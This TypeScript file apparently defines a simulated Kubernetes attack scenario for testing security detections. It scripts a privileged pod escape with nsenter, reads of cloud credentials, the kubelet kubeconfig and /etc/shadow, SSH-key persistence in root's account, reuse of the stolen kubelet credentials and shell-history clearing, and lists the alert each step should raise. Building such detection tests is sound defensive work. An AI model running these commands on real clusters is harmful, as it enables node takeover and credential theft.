import { IP, USER_AGENT } from '../cluster/constants';
import { nodepoolNode } from '../cluster/inventory';
import type { ClusterSpec, ImageSpec } from '../cluster/types';
import type { Random } from '../../src/shared/random';
import { DIAGNOSTIC_POD_NAMES, developer, externalIp, nameFrom, sshPublicKey } from '../scenario/indicators';
import type { Storyline, StorylineDefinition } from '../scenario/storyline';

const hostShell = { parentExe: '/usr/bin/bash', user: 'root', inHostNamespaces: true } as const;

/** General-purpose images with a shell that an attacker (or a developer) would pull for a debugging pod. */
const DEBUG_IMAGES: readonly ImageSpec[] = [
  { registry: 'docker.io', repository: 'library/ubuntu', tag: '22.04' },
  { registry: 'docker.io', repository: 'library/ubuntu', tag: '24.04' },
  { registry: 'docker.io', repository: 'library/debian', tag: '12' },
  { registry: 'docker.io', repository: 'nicolaka/netshoot', tag: 'v0.13' },
  { registry: 'docker.io', repository: 'library/fedora', tag: '40' },
];

/** The phished developer may create pods in `default`, as the cluster's `developers-edit` binding allows. */
function grantDefaultNamespace(upn: string): (spec: ClusterSpec) => void {
  return (spec) => {
    const binding = spec.bindings.find((b) => b.name === 'developers-edit' && b.namespace === 'default');
    if (binding && !binding.subjects.some((s) => s.kind === 'User' && s.name === upn))
      binding.subjects.push({ kind: 'User', name: upn });
  };
}

/** B1: a phished developer's kubeconfig, a privileged hostPID pod with the node's root mounted, nsenter into the node. */
export const privilegedPodEscape: StorylineDefinition = {
  id: 'privileged-pod-escape',
  title: 'Privileged pod escape with nsenter',
  summary:
    "A stolen developer kubeconfig creates a privileged pod sharing the node's PID namespace and mounting its root, then escapes to the node.",
  build: buildPrivilegedPodEscape,
};

function buildPrivilegedPodEscape(random: Random): Storyline {
  const victim = developer(random);
  const attackerIp = externalIp(random);
  const podName = nameFrom(random, DIAGNOSTIC_POD_NAMES);
  const node = nodepoolNode(random.int(0, 2));
  const nodeName = node.name;
  const image = random.pick(DEBUG_IMAGES);
  const sshKey = sshPublicKey(random);
  const attackPod = { namespace: 'default', name: podName };
  return {
    id: privilegedPodEscape.id,
    title: privilegedPodEscape.title,
    summary: privilegedPodEscape.summary,
    indicators: {
      pod: `default/${podName}`,
      creator: victim.upn,
      attackerIp,
      node: nodeName,
      image: `${image.registry}/${image.repository}:${image.tag}`,
    },
    attackHourUtc: 10,
    setup: { patch: grantDefaultNamespace(victim.upn) },
    actors: {
      attacker: {
        kind: 'user',
        upn: victim.upn,
        oid: victim.oid,
        sourceIp: attackerIp,
        userAgent: USER_AGENT.kubectl,
      },
      stolenKubelet: {
        kind: 'node',
        node: nodeName,
        // kubectl on the node itself with the kubelet's kubeconfig: the API server sees the node's own address,
        // so the tell is the client (kubectl, not kubelet) and what it asks for, never the address.
        sourceIp: node.ip,
        userAgent: USER_AGENT.kubectl,
      },
    },
    steps: [
      {
        at: 0,
        description: `Creates default/${podName}: privileged, hostPID, the node root at /host`,
        actions: [
          {
            type: 'createPod',
            actor: 'attacker',
            namespace: 'default',
            name: podName,
            node: nodeName,
            fieldManager: 'kubectl-client-side-apply',
            template: {
              labels: { app: podName },
              serviceAccount: 'default',
              hostPID: true,
              volumes: [{ name: 'hostroot', hostPath: { path: '/', type: '' } }],
              containers: [
                {
                  name: podName,
                  image,
                  command: ['sleep', 'infinity'],
                  securityContext: { privileged: true },
                  volumeMounts: [{ name: 'hostroot', mountPath: '/host' }],
                  process: { exe: '/usr/bin/sleep', cmdline: 'sleep infinity', user: 'root' },
                },
              ],
            },
          },
        ],
      },
      {
        at: 40,
        description: `kubectl exec -it ${podName} -- bash`,
        actions: [
          {
            type: 'exec',
            actor: 'attacker',
            pod: attackPod,
            container: podName,
            command: ['bash'],
            tty: true,
          },
        ],
      },
      {
        at: 65,
        description: 'Looks around: host processes are visible',
        actions: [
          {
            type: 'process',
            pod: attackPod,
            exe: '/usr/bin/bash',
            cmdline: 'id; hostname; uname -a; ps aux',
            parentExe: '/usr/bin/bash',
            user: 'root',
            tty: true,
          },
        ],
      },
      {
        at: 90,
        description: "Joins the host's namespaces through PID 1",
        actions: [
          {
            type: 'process',
            pod: attackPod,
            exe: '/usr/bin/nsenter',
            cmdline: 'nsenter --target 1 --mount --uts --ipc --net --pid -- bash',
            parentExe: '/usr/bin/bash',
            user: 'root',
            tty: true,
          },
        ],
      },
      {
        at: 130,
        description: "Reads the node's cloud credentials and the kubelet's kubeconfig",
        actions: [
          {
            type: 'process',
            pod: attackPod,
            exe: '/usr/bin/cat',
            cmdline: 'cat /etc/kubernetes/azure.json',
            ...hostShell,
            files: [{ path: '/etc/kubernetes/azure.json', operation: 'read' }],
          },
          {
            type: 'process',
            pod: attackPod,
            exe: '/usr/bin/cat',
            cmdline: 'cat /var/lib/kubelet/kubeconfig',
            ...hostShell,
            files: [{ path: '/var/lib/kubelet/kubeconfig', operation: 'read' }],
          },
        ],
      },
      {
        at: 160,
        description: "Reads the node's password hashes",
        actions: [
          {
            type: 'process',
            pod: attackPod,
            exe: '/usr/bin/cat',
            cmdline: 'cat /etc/shadow',
            ...hostShell,
            files: [{ path: '/etc/shadow', operation: 'read' }],
          },
        ],
      },
      {
        at: 260,
        description: "Persists with an SSH key in the node's root account",
        actions: [
          {
            type: 'process',
            pod: attackPod,
            exe: '/usr/bin/bash',
            cmdline: `mkdir -p /root/.ssh; echo '${sshKey}' >> /root/.ssh/authorized_keys`,
            ...hostShell,
            files: [{ path: '/root/.ssh/authorized_keys', operation: 'write' }],
          },
        ],
      },
      {
        at: 300,
        description: "Uses the kubelet's credentials against the API server",
        actions: [
          {
            type: 'process',
            pod: attackPod,
            exe: '/usr/local/bin/kubectl',
            cmdline: 'kubectl --kubeconfig /var/lib/kubelet/kubeconfig get pods -A',
            ...hostShell,
            connections: [{ ip: IP.apiServerService, port: 443 }],
          },
          { type: 'api', actor: 'stolenKubelet', verb: 'list', resource: 'pods', query: 'limit=500' },
          {
            type: 'api',
            actor: 'stolenKubelet',
            verb: 'get',
            resource: 'secrets',
            namespace: 'kube-system',
            name: 'azure-policy-webhook-cert',
            code: 403,
            message: `secrets "azure-policy-webhook-cert" is forbidden: User "system:node:${nodeName}" cannot get resource "secrets" in API group "" in the namespace "kube-system": no relationship found between node '${nodeName}' and this object`,
          },
        ],
      },
      {
        at: 360,
        description: 'Clears the shell history',
        actions: [
          {
            type: 'process',
            pod: attackPod,
            exe: '/usr/bin/bash',
            cmdline: 'history -c; rm -f /root/.bash_history',
            ...hostShell,
            files: [{ path: '/root/.bash_history', operation: 'delete' }],
          },
        ],
      },
      {
        at: 450,
        description: 'Deletes the pod: its processes and files are gone',
        actions: [{ type: 'deletePod', actor: 'attacker', pod: attackPod }],
      },
    ],
    expectedAlerts: [
      { alertType: 'K8S_PrivilegedContainer', step: 0 },
      { alertType: 'K8S_SensitiveMount', step: 0 },
      { alertType: 'K8S.NODE_PrivilegedExecutionInContainer', step: 1 },
      { alertType: 'K8S.NODE_ReconnaissanceArtifactsBurst', step: 2 },
      { alertType: 'K8S.NODE_PrivilegedExecutionInContainer', step: 3 },
      { alertType: 'K8S.NODE_KubeConfigAccess', step: 4 },
      { alertType: 'K8S.NODE_SuspectPasswordFileAccess', step: 5 },
      { alertType: 'K8S.NODE_SshKeyAccess', step: 6 },
      { alertType: 'K8S.NODE_HistoryFileCleared', step: 8 },
    ],
  };
}
